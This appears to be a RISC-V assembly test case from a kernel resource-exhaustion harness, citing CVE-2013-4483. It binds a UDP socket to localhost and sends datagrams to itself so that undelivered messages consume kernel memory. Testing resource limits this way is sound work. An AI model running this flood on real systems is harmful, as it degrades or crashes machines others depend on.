# Messages that nobody receives take the kernel's memory.
# case: a flood of messages in flight: CVE-2013-4483
# plant: PLANT_UNLIMITED_nummsg

.equ RESOURCE, 6             # nummsg
.equ MORE,     5
.include "exhausting.inc"

.bss
.balign 8
flooded: .zero 8                # a socket
address: .zero SOCKADDR_SIZE
.text
prepared:
    save ra
    li   a0, AF_INET
    li   a1, SOCK_DGRAM
    li   a2, 0
    must socket, "socket"
    sd   a0, flooded, t0
    la   t0, address
    li   t1, AF_INET
    sh   t1, 0(t0)
    li   t1, 0x1000             # port 16
    sh   t1, 2(t0)
    li   t1, 0x0100007f         # 127.0.0.1
    sw   t1, 4(t0)
    la   a1, address
    li   a2, SOCKADDR_SIZE
    must bind, "bind"
    restore ra
    ret

take:
    save ra
    ld   a0, flooded
    la   a1, flooded
    li   a2, 1
    li   a3, 0
    la   a4, address
    li   a5, SOCKADDR_SIZE
    system sendto
    restore ra
    ret
